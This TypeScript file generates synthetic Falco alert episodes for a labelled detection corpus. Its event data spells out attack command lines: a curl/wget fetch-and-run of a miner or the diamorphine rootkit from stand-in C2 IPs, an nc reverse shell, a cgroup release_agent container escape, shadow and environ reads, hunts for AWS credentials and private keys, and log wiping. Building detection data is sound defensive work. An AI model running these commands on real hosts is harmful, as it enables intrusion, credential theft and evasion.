import type { SyscallRule } from "./catalogue.js";
import type { Rng } from "./prng.js";
import type { Proc } from "./rules.js";
import { loginShell, proc, tty } from "./scenario.js";
import type { Stream } from "./stream.js";
import type { Workload } from "./workloads.js";

/**
 * Attack episodes for the labelled corpus, one per kind of falcosecurity/event-generator action
 * (its `syscall.*` actions fire exactly these Falco rules). Each episode is a few events on one pod
 * within minutes, labelled with its episode id; it usually opens with a foothold that looks like
 * benign noise (a shell from the web server, an interactive shell) and always fires at least one
 * rule at Warning or above.
 */

export const EPISODE_KINDS = [
  "shell",
  "sensitive-read",
  "drop-exec",
  "netcat",
  "memfd",
  "log-clear",
  "kmod",
  "release-agent",
  "cred-search",
] as const;
export type EpisodeKind = (typeof EPISODE_KINDS)[number];

/** One step: seconds after the previous step, then what Falco saw. */
type Step = [delay: number, rule: SyscallRule, p: Proc, evt: string, fd?: string];

const C2 = ["198.51.100.23", "198.51.100.77", "203.0.113.9", "203.0.113.140"];

/** A process the victim's serving process spawned, as its user (a foothold through the app). */
function spawned(victim: Workload, name: string, cmdline: string, pname: string, exepath: string): Proc {
  return proc(name, cmdline, pname, exepath, [victim.main.user, victim.main.uid]);
}

function footholdShell(victim: Workload, cmdline: string): Proc {
  return spawned(victim, "sh", cmdline, victim.main.name, "/bin/sh");
}

function stepsOf(kind: EpisodeKind, victim: Workload, rng: Rng): Step[] {
  const c2 = rng.pick(C2);
  const port = rng.pick([443, 4444, 8080, 9001]);
  const secs = (low: number, high: number) => low + rng.float() * (high - low);
  switch (kind) {
    case "shell":
      return [
        [0, "Terminal shell in container", loginShell, "execve"],
        [
          secs(10, 60),
          "Launch Package Management Process in Container",
          tty("apt-get", "apt-get install -y nmap", "bash", "/usr/bin/apt-get"),
          "execve",
        ],
        [
          secs(20, 90),
          "Launch Suspicious Network Tool in Container",
          tty("nmap", "nmap -sS -p 22,80,443,6443,10250 10.42.0.0/16", "bash", "/usr/bin/nmap"),
          "execve",
        ],
      ];
    case "sensitive-read": {
      const cat = spawned(victim, "cat", "cat /etc/shadow", "sh", "/usr/bin/cat");
      const steps: Step[] = [
        [0, "Run shell untrusted", footholdShell(victim, "sh -c cat /etc/shadow"), "execve"],
        [secs(0.01, 0.5), "Read sensitive file untrusted", cat, "openat", "/etc/shadow"],
      ];
      if (rng.chance(0.5)) {
        const sudoers = spawned(victim, "cat", "cat /etc/sudoers", "sh", "/usr/bin/cat");
        steps.push([secs(5, 30), "Read sensitive file untrusted", sudoers, "openat", "/etc/sudoers"]);
      }
      return steps;
    }
    case "drop-exec": {
      const shm = rng.chance(0.4);
      const path = shm
        ? "/dev/shm/.x/kdevtmpfsi"
        : `/tmp/.cache/${rng.pick(["kdevtmpfsi", "kinsing", "xmrig"])}`;
      const name = path.slice(path.lastIndexOf("/") + 1);
      const fetch = `curl -fsSL -o ${path} http://${c2}/${name}`;
      const payload = spawned(victim, name, `${path} --donate-level 0`, "sh", path);
      const steps: Step[] = [
        [
          0,
          "Run shell untrusted",
          footholdShell(victim, `sh -c ${fetch} && chmod +x ${path} && ${path}`),
          "execve",
        ],
        [
          secs(0.01, 0.2),
          "Launch Ingress Remote File Copy Tools in Container",
          spawned(victim, "curl", fetch, "sh", "/usr/bin/curl"),
          "execve",
        ],
      ];
      if (shm) steps.push([secs(1, 5), "Execution from /dev/shm", payload, "execve", path]);
      steps.push([shm ? 0.001 : secs(1, 5), "Drop and execute new binary in container", payload, "execve"]);
      return steps;
    }
    case "netcat": {
      const nc = spawned(victim, "nc", `nc ${c2} ${port} -e /bin/sh`, "sh", "/usr/bin/nc");
      const sh = spawned(victim, "sh", "/bin/sh", "nc", "/bin/sh");
      const fd = `${victim.ip}:${rng.int(32768, 60999)}->${c2}:${port}`;
      const steps: Step[] = [
        [0, "Netcat Remote Code Execution in Container", nc, "execve"],
        [secs(0.01, 0.3), "Redirect STDOUT/STDIN to Network Connection in Container", sh, "dup2", fd],
      ];
      if (rng.chance(0.5)) {
        const env = spawned(victim, "cat", "cat /proc/1/environ", "sh", "/usr/bin/cat");
        steps.push([
          secs(5, 60),
          "Read environment variable from /proc files",
          env,
          "openat",
          "/proc/1/environ",
        ]);
      }
      return steps;
    }
    case "memfd": {
      const name = rng.pick(["kworker", "systemd-journal", "sshd"]);
      const payload = spawned(
        victim,
        name,
        `[${name}/u8:2] --pool stratum+tcp://${c2}:3333`,
        victim.main.name,
        `/memfd:${name} (deleted)`,
      );
      const steps: Step[] = [[0, "Fileless execution via memfd_create", payload, "execve"]];
      if (rng.chance(0.5)) {
        const hunt = spawned(
          victim,
          "grep",
          "grep -rsl aws_secret_access_key / --exclude-dir=proc",
          name,
          "/usr/bin/grep",
        );
        steps.push([secs(5, 40), "Find AWS Credentials", hunt, "execve"]);
      }
      return steps;
    }
    case "log-clear":
      return [
        [0, "Terminal shell in container", loginShell, "execve"],
        [
          secs(30, 300),
          "Clear Log Activities",
          tty("truncate", "truncate -s 0 /var/log/auth.log", "bash", "/usr/bin/truncate"),
          "openat",
          "/var/log/auth.log",
        ],
        [
          secs(1, 10),
          "Delete or rename shell history",
          tty("rm", "rm -f /root/.bash_history", "bash", "/usr/bin/rm"),
          "unlinkat",
          "/root/.bash_history",
        ],
      ];
    case "kmod":
      return [
        [0, "Terminal shell in container", loginShell, "execve"],
        [
          secs(30, 200),
          "Launch Ingress Remote File Copy Tools in Container",
          tty("wget", `wget -q http://${c2}/diamorphine.ko -O /tmp/d.ko`, "bash", "/usr/bin/wget"),
          "execve",
        ],
        [
          secs(5, 30),
          "Linux Kernel Module Injection Detected",
          tty("insmod", "insmod /tmp/d.ko", "bash", "/usr/sbin/insmod"),
          "finit_module",
        ],
      ];
    case "release-agent": {
      const write = tty("sh", `sh -c echo /tmp/cgrp/cmd > /tmp/cgrp/release_agent`, "bash", "/bin/sh");
      return [
        [0, "Terminal shell in container", loginShell, "execve"],
        [
          secs(20, 120),
          "Mount Launched in Privileged Container",
          tty("mount", "mount -t cgroup -o rdma cgroup /tmp/cgrp", "bash", "/usr/bin/mount"),
          "execve",
        ],
        [
          secs(5, 30),
          "Detect release_agent File Container Escapes",
          write,
          "openat",
          "/tmp/cgrp/release_agent",
        ],
      ];
    }
    case "cred-search": {
      const grep = spawned(
        victim,
        "grep",
        'grep -rIl "BEGIN RSA PRIVATE" /etc /root /home /app',
        "sh",
        "/usr/bin/grep",
      );
      const find = spawned(
        victim,
        "find",
        "find / -name credentials -path *.aws/credentials",
        "sh",
        "/usr/bin/find",
      );
      const steps: Step[] = [];
      if (rng.chance(0.5))
        steps.push([0, "Run shell untrusted", footholdShell(victim, "sh -c id; uname -a"), "execve"]);
      steps.push([secs(5, 60), "Search Private Keys or Passwords", grep, "execve"]);
      steps.push([secs(5, 60), "Find AWS Credentials", find, "execve"]);
      return steps;
    }
  }
}

/** Plans one episode on `victim` from `start` seconds, labelled `label`. */
export function planEpisode(
  stream: Stream,
  label: string,
  kind: EpisodeKind,
  victim: Workload,
  start: number,
): void {
  let t = start;
  for (const [delay, rule, p, evt, fd] of stepsOf(kind, victim, stream.rng)) {
    t += delay;
    stream.plan.syscall(label, t, rule, victim.on, p, evt, fd);
  }
}
